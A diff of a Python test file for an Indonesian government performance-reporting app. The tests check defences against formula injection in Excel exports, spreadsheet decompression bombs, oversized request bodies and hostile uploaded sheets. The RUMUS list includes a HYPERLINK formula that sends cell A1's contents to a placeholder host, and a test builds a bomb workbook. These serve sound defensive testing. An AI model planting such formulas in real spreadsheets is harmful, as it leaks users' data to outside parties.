@@ -9,33 +9,24 @@ from datetime import date
 import pytest
 from openpyxl import load_workbook
 from python_calamine import CalamineWorkbook
-from sqlmodel import select
 
 from models.db import session_scope
-from models.kinerja.realisasi import Isian, simpan_draf
-from models.tables import Indikator, Kecamatan, User
 from models.tindak_lanjut.evaluasi import RekomendasiBaru, catat_evaluasi_lengkap
 from models.umum.penolakan import Ditolak
 from tests.conftest import masuk
+from tests.fabrik import kantor, nama_pengguna, pengguna, realisasi
 
 RUMUS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A2)"]
 
 
-def _u(s, nama: str) -> User:
-    return s.exec(select(User).where(User.username == nama)).one()
-
-
 def test_text_that_looks_like_a_formula_stays_text_in_the_downloads_and_the_template(client, demo):
     with session_scope(demo) as s:
-        kec = s.exec(select(Kecamatan).where(Kecamatan.nama == "Poncokusumo")).one()
+        kec = kantor(s)
         catat_evaluasi_lengkap(s, kecamatan_id=kec.id, jenis="evaluasi", tahun=2025, triwulan=2,
-                               tanggal=date(2025, 7, 20), peserta="Tim", temuan="-", oleh=_u(s, "tim.poncokusumo"),
+                               tanggal=date(2025, 7, 20), peserta="Tim", temuan="-", oleh=pengguna(s, peran="tim"),
                                rekomendasi=[RekomendasiBaru(t, "kasi_pem", date(2025, 8, 30)) for t in RUMUS])
-        ind = s.exec(select(Indikator).where(Indikator.kode == "IKU-1")
-                     .where(Indikator.kabupaten_id == kec.kabupaten_id)).one()
-        simpan_draf(s, kecamatan_id=kec.id, tahun=2025, triwulan=2, oleh=_u(s, "evapor.poncokusumo"),
-                    isian=Isian(ind.id, "40", "50", "=1+1", [], None), hari_ini=date(2025, 7, 1))
-    masuk(client, "camat.poncokusumo")
+        realisasi(s, indikator="IKU-1", tahun=2025, triwulan=2, pembilang="40", penyebut="50", catatan="=1+1")
+    masuk(client, nama_pengguna("camat"))
     xlsx = client.get("/unduh/tl-daftar.xlsx?tahun=2025&triwulan=2")
     assert xlsx.status_code == 200 and xlsx.headers["Cache-Control"] == "no-store"
     ws = load_workbook(io.BytesIO(xlsx.data)).active
@@ -87,7 +78,7 @@ def test_a_spreadsheet_bomb_is_refused_before_it_is_parsed(client, app, demo):
 
     bom = _bom_xlsx(300_000)
     assert len(bom) < 200_000  # small as sent
-    masuk(client, "evapor.poncokusumo")
+    masuk(client, nama_pengguna("kasubag_evapor"))
     client.get("/_dash-layout")
     sebelum = sidik_basis_data(demo)
     isi = "data:application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;base64," + base64.b64encode(bom).decode()
@@ -102,7 +93,7 @@ def test_a_spreadsheet_bomb_is_refused_before_it_is_parsed(client, app, demo):
 
 
 def test_a_request_body_over_the_limit_is_not_read(client, demo):
-    masuk(client, "evapor.poncokusumo")
+    masuk(client, nama_pengguna("kasubag_evapor"))
     r = client.post("/_dash-update-component", data=b"{" + b" " * (9 * 1024 * 1024) + b"}",
                     content_type="application/json")
     assert r.status_code == 413
@@ -135,7 +126,7 @@ def test_a_damaged_or_hostile_sheet_is_refused_with_a_message(client, app, demo)
     from models.kinerja.excel import baca, templat
 
     with session_scope(demo) as s:
-        kec = s.exec(select(Kecamatan).where(Kecamatan.nama == "Poncokusumo")).one()
+        kec = kantor(s)
         asli = templat(s, kecamatan_id=kec.id, tahun=2025, triwulan=2)
 
     def ubah(fungsi) -> bytes:
@@ -158,7 +149,7 @@ def test_a_damaged_or_hostile_sheet_is_refused_with_a_message(client, app, demo)
     # Through the page's callback the person reads the message; no 500.
     from tests.dash_util import daftar_callback, panggil, teks_jawaban
 
-    masuk(client, "evapor.poncokusumo")
+    masuk(client, nama_pengguna("kasubag_evapor"))
     client.get("/_dash-layout")
     kunci = next(k for k, cb in daftar_callback(app).items()
                  if f"{cb['callback'].__module__}.{cb['callback'].__name__}" == "callbacks.realisasi.pratinjau")
